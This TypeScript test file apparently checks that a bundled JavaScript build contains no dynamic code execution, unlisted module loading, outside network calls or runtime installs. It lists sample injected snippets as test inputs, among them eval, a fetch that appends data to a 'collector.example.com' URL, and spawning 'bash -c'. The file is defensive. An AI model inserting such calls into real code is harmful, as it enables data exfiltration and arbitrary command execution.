import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { resolve } from "node:path";
import { test } from "node:test";
import { repositoryRoot } from "../source-files.ts";
import { bundleRules, unusedHosts } from "./bundle-rules.ts";
import { fileBreaches } from "./file-rule.ts";
import { holdRules } from "./hold-rules.ts";

const code = "no text becomes code";
const loaded =
  "what is loaded is named in the file, and is Node's or stands beside it";
const host = "no host but those with a reason";
const install = "nothing is installed while it runs";
const end = /$/;

holdRules("dist/index.js", bundleRules, [
  [code, end, ";eval(a)"],
  [code, end, ";new Function(a)()"],
  [code, end, ';Function("return 1")()'],
  [code, end, ';(()=>{}).constructor("return 1")()'],
  [code, end, ';setTimeout("a()",1)'],
  [code, end, ";vm.runInThisContext(a)"],
  [loaded, end, ";import(a)"],
  [loaded, end, ";require(a)"],
  [loaded, end, ";e(import.meta.url)(a)"],
  [loaded, end, ';e(import.meta.url)("left-pad")'],
  [loaded, end, ';import"left-pad"'],
  [loaded, end, ';import("./other.js")'],
  [host, end, ';fetch("https://example.com/x")'],
  [host, end, ";fetch(`https://collector.example.com?`+a)"],
  [host, end, ';new WebSocket("wss://example.com")'],
  [install, end, ';spawn("npm",["install"])'],
  [install, end, ";spawn('bash',['-c',a])"],
]);

test("no host keeps its reason after it is gone", () => {
  assert.deepEqual(unusedHosts(read("index.js")), []);
});

test("the files beside the bundle load nothing and call nobody", () => {
  for (const name of readdirSync(resolve(repositoryRoot, "dist")).filter(
    (name) => name.endsWith(".js"),
  ))
    assert.deepEqual(fileBreaches(bundleRules, read(name)), [], name);
});

function read(name: string): string {
  return readFileSync(resolve(repositoryRoot, "dist", name), "utf8");
}
